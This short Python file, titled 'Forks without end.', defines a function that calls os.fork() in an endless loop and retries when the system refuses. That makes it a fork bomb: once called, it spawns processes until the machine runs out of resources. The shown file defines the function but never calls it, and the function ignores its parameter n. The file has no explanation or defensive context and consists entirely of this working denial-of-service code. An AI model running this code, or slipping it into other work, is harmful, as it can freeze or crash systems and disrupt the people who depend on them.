"""Forks without end."""

import os
import time


def double(n):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.1)
